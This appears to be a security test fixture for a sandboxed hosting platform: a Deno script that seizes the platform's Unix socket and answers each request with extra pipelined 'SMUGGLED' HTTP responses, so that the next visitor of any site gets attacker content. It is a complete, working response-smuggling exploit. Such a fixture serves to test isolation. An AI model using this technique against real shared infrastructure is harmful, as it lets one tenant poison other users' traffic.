// Takes its socket over and answers one request with two answers, for the next visitor of anybody.
// @answers ANYTHING
// @again
const at = JSON.parse(Deno.env.get("ATTACK")!);

// The platform connects to whatever listens at this path when the program says that it serves.
function rawServer(answer: string) {
  Deno.serve(() => new Response("never"));
  Deno.removeSync("/run/islet/a.sock");
  const listener = Deno.listen({ transport: "unix", path: "/run/islet/a.sock" });
  (async () => {
    for await (const connection of listener) {
      (async () => {
        const buffer = new Uint8Array(64 << 10);
        while (await connection.read(buffer)) await connection.write(new TextEncoder().encode(answer));
      })().catch(() => {});
    }
  })();
}

const second = `HTTP/1.1 200 OK\r\ncontent-length: 8\r\n\r\nSMUGGLED`;
rawServer(`HTTP/1.1 200 OK\r\ncontent-length: ${at.name.length}\r\n\r\n${at.name}${second}${second}`);
